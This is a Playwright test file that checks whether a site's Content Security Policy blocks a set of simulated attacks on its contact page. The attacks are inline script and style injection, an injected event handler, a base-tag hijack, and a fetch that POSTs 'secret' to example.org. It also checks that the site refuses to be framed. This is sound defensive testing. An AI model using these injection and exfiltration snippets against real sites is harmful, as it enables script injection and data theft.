import { expect, test as unguarded } from '@playwright/test'
import { open } from './browsing.ts'

// The policy has to refuse something here, so the guard that forbids refusals is off.
unguarded.describe('the policy refuses', () => {
  /** The attempts, by the words with which the browser refuses them. */
  const attacks = {
    'inline style': () => {
      const style = document.head.appendChild(document.createElement('style'))
      style.textContent = 'h1 { color: rgb(1, 2, 3) }'
    },
    'inline script': () => {
      const script = document.head.appendChild(document.createElement('script'))
      script.textContent = 'document.title = "broken in"'
    },
    'inline event handler': () => {
      document.body.setAttribute('onclick', 'document.title = "broken in"')
      document.body.click()
    },
    'the image': () => {
      document.body.appendChild(document.createElement('img')).src = 'https://example.org/a.png'
    },
    'connect-src': () => {
      fetch('https://example.org/', { method: 'POST', body: 'secret' }).catch(() => {})
    },
    'base URI': () => {
      document.head.appendChild(document.createElement('base')).href = 'https://example.org/'
    },
  }
  unguarded('what does not belong on a page', async ({ page }) => {
    await open(page, '/kontakt')
    const title = await page.title()
    for (const [words, attack] of Object.entries(attacks)) {
      await unguarded.step(words, async () => {
        const refused = page.waitForEvent(
          'console',
          (message) => message.text().includes('Content Security Policy') && message.text().includes(words),
        )
        await page.evaluate(attack)
        await refused
        expect(await page.title()).toBe(title)
      })
    }
  })

  unguarded('framing by another page', async ({ page, baseURL }) => {
    await page.setContent(`<iframe src="${baseURL}/"></iframe>`)
    await expect.poll(() => page.frames()[1]?.url()).toMatch(/^chrome-error:/)
  })
})
